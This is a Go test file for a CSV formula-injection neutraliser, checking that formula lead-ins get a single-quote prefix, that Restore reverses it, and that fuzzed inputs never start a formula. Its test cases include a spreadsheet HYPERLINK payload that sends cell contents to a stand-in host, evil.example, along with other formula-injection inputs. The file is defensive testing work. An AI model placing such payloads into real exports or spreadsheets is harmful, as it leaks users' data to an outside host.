package csvsafe

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

// cases holds every formula lead-in, alone, with text after it and behind
// single quotes, and text encoding/csv quotes for other reasons.
var cases = []string{"", "plain", "=1+1", "+1", "-1", "@A1", "\tlead tab", "\rlead cr", "\x00nul", "=", "-",
	`=HYPERLINK("http://evil.example/?"&A1,"Open")`, "@SUM(1+1)", "'", "'=1+1", "''+1", "'''-1", "'plain", "''",
	"a=1", " =1", "=a,b", "=a\nb", "-\r\n", `\.`, `'\.`, "\u00a0=1", "é=", "=é", "-1.5", "2026-03-01T09:30:00Z"}

// Every cell is what encoding/csv writes for the neutralised value, no cell
// a spreadsheet reads back starts a formula, and Restore gives back exactly
// what was written.
func TestFieldsAreEncodingCSVOfTheNeutralisedValue(t *testing.T) {
	for _, s := range cases {
		var want bytes.Buffer
		w := csv.NewWriter(&want)
		w.Write([]string{Neutralise(s), "x"})
		w.Flush()
		var got bytes.Buffer
		if err := NewWriter(&got).Write([]string{s, "x"}); err != nil {
			t.Fatal(err)
		}
		if got.String() != want.String() {
			t.Errorf("%q: wrote %q, encoding/csv of the neutralised value is %q", s, got.String(), want.String())
		}
		recs, err := csv.NewReader(&got).ReadAll()
		if err != nil || len(recs) != 1 {
			t.Fatalf("%q: the row does not read back: %v", s, err)
		}
		cell := recs[0][0]
		if cell != "" && strings.ContainsRune("=+-@\t\r\x00", rune(cell[0])) {
			t.Errorf("%q: the cell %q starts a formula", s, cell)
		}
		if back := Restore(cell); back != s && !(strings.Contains(s, "\r") && back == strings.ReplaceAll(s, "\r\n", "\n")) {
			t.Errorf("%q: restored as %q", s, back)
		}
	}
}

func TestEveryLeadInIsPrefixed(t *testing.T) {
	for _, s := range []string{"=1+1", "+1", "-1", "@A1", "\tx", "\rx", "\x00x", "'=x", "''@x"} {
		if got := Neutralise(s); got != "'"+s {
			t.Errorf("Neutralise(%q) = %q, want a single quote in front", s, got)
		}
	}
	for _, s := range []string{"plain", "'plain", "1", "a-1", " =1", ""} {
		if got := Neutralise(s); got != s {
			t.Errorf("Neutralise(%q) = %q, want it unchanged", s, got)
		}
	}
}

func TestRawCellsAreNeutralisedToo(t *testing.T) {
	for in, want := range map[string]string{"42": "42", "-1": "'-1", "2026-03-01": "2026-03-01", "ab12": "ab12"} {
		got := string(AppendRaw([]byte("x,"), func(b []byte) []byte { return append(b, in...) }))
		if got != "x,"+want {
			t.Errorf("AppendRaw(%q) = %q, want %q", in, got, "x,"+want)
		}
	}
}

func FuzzRestoreUndoesNeutralise(f *testing.F) {
	for _, s := range cases {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if got := Restore(Neutralise(s)); got != s {
			t.Errorf("Restore(Neutralise(%q)) = %q", s, got)
		}
		if n := Neutralise(s); n != "" && strings.ContainsRune("=+-@\t\r\x00", rune(n[0])) {
			t.Errorf("Neutralise(%q) = %q starts a formula", s, n)
		}
	})
}
